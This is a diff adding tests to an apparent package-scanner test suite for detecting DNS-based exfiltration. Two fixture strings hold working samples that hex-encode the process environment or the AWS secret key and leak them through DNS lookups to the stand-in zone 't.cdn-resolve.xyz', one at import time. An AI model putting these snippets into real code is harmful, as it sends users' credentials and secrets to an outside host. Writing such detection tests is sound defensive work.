@@ -1148,3 +1148,37 @@ def test_benign_code_written_from_a_template_sends_nothing_of_the_machine(tmp_pa
     init = TEMPLATE_WRITER.format(host="api.fixturepkg.io", data="'ready'")
     verdict, findings = scan_package(tmp_path, {f"{DEFAULT_NAME}/__init__.py": init})
     assert verdict is not Verdict.MALICIOUS, findings
+
+
+def test_the_environment_spelled_into_dns_names_goes_to_the_zone_they_end_in() -> None:
+    source = """
+        import os, socket
+        ZONE = "t.cdn-resolve.xyz"
+        def warm():
+            blob = repr(dict(os.environ)).encode().hex()
+            for i in range(0, len(blob), 60):
+                socket.getaddrinfo(f"{blob[i:i+60]}.{i}.{ZONE}", 53)
+    """
+    assert [(f.source, f.destination.host) for f in flows_of(source)] == [
+        (Source.ENVIRONMENT, "t.cdn-resolve.xyz")
+    ]
+
+
+def test_dns_exfiltration_at_import_is_malicious(tmp_path: Path) -> None:
+    init = (
+        "import os, socket\n"
+        "KEY = os.environ.get('AWS_SECRET_ACCESS_KEY', '')\n"
+        "socket.gethostbyname(KEY.encode().hex()[:60] + '.t.cdn-resolve.xyz')\n"
+    )
+    verdict, findings = scan_package(tmp_path, {f"{DEFAULT_NAME}/__init__.py": init})
+    assert verdict is Verdict.MALICIOUS, findings
+
+
+def test_benign_dns_lookups_of_host_names_carry_nothing() -> None:
+    source = """
+        import socket
+        SERVICE = "api"
+        def resolve(host):
+            return socket.gethostbyname(host), socket.getaddrinfo(f"{SERVICE}.internal.example.com", 443)
+    """
+    assert flows_of(source) == []
